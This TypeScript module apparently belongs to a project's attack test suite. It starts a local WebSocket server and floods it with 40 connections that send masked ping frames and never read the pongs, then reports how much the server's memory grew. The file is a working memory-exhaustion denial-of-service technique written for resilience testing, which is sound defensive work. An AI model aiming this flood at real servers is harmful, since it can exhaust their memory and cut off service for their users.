/**
 * @fileoverview Clients of an agent server that send pings and do not read the pongs.
 * @module tools/attack/agent/ping-flood
 */
import { Buffer } from "node:buffer";
import { once } from "node:events";
import { mkdtempSync, rmSync } from "node:fs";
import { connect, type Socket } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startTarget } from "./target.js";

/** Number of clients. */
export const PINGERS = 40;

/** Bytes that each client sends. The pongs exceed the buffers of the operating system by some megabytes. */
const SENT = 6_000_000;

/** Masked ping with 125 bytes of data, the most that a control frame can have. */
const PING = Buffer.concat([Buffer.from([0x89, 0x80 | 125, 0, 0, 0, 0]), Buffer.alloc(125)]);
const PINGS = Buffer.concat(Array.from({ length: 1_000 }, () => PING));

/** Runs the attack. Returns the growth of the memory of the server's process, in megabytes. */
export async function attackWithPings(): Promise<number> {
  const storage = mkdtempSync(join(tmpdir(), "tenon-attack-"));
  const target = await startTarget(storage);
  const sockets: Socket[] = [];
  try {
    const before = await target.measure();
    const { hostname, port } = new URL(target.url);
    for (let index = 0; index < PINGERS; index++) sockets.push(await upgrade(hostname, Number(port)));
    await Promise.all(sockets.map(flood));
    const after = await target.measure();
    return (after.rss - before.rss) / 1_000_000;
  } finally {
    for (const socket of sockets) socket.destroy();
    target.stop();
    rmSync(storage, { recursive: true, force: true });
  }
}

/** Opens a WebSocket connection that never reads after the handshake. */
export async function upgrade(host: string, port: number): Promise<Socket> {
  const socket = connect({ host, port }).on("error", () => undefined);
  await once(socket, "connect");
  const lines = [
    "GET / HTTP/1.1",
    `Host: ${host}:${port}`,
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
  ];
  socket.write(`${lines.join("\r\n")}\r\n\r\n`);
  await once(socket, "data");
  return socket.pause();
}

/** Sends pings until all are sent, or until the server closes the connection. */
async function flood(socket: Socket): Promise<void> {
  for (let sent = 0; sent < SENT && socket.writable; sent += PINGS.byteLength) {
    if (socket.write(PINGS)) continue;
    await Promise.race([once(socket, "drain"), once(socket, "close")]).catch(() => undefined);
  }
}
